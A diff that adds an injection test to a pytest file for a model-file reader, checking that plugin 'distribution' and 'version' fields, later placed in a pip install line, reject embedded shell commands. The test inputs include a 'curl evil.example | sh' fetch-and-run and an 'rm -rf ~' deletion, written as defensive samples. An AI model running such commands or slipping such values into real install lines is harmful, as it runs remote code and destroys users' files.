@@ -155,3 +155,10 @@ def test_a_plugin_component_is_recorded_and_a_missing_one_names_its_distribution
     path.write_text(json.dumps(doc))
     with pytest.raises(ModelFileError, match=r"components\[0\] must be an object with kind, name"):
         modelfile.read(path)
+    # the distribution is quoted in a pip install line: a file cannot put a shell command there
+    for key, value in (("distribution", "microgradx-scale; curl evil.example | sh"), ("version", "1.0 && rm -rf ~")):
+        doc["components"] = [{"kind": "layers", "name": "Scale", "plugin": "scale", "distribution": "microgradx-scale",
+                              "version": "1.2.0", key: value}]
+        path.write_text(json.dumps(doc))
+        with pytest.raises(ModelFileError, match=rf"components\[0\]\['{key}'\] = .* is not a"):
+            modelfile.read(path)
